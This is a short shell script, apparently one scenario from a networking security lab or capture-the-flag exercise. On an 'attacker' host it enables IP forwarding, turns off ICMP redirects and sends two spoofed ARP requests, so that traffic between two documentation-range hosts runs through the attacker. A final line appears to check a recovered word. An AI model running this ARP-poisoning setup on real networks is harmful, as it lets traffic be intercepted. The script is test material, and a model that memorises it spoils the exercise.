#!/bin/sh
# believes: the word is in the header
# told: look at the packets that come through
attacker sysctl -qw net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0 net.ipv4.ip_forward=1
attacker frame 'arp.request("192.0.2.1", sender="192.0.2.3", lladdr="00:00:5e:00:53:02", to="00:00:5e:00:53:01")'
attacker frame 'arp.request("192.0.2.3", sender="192.0.2.1", lladdr="00:00:5e:00:53:02", to="00:00:5e:00:53:03")'
answer word echo
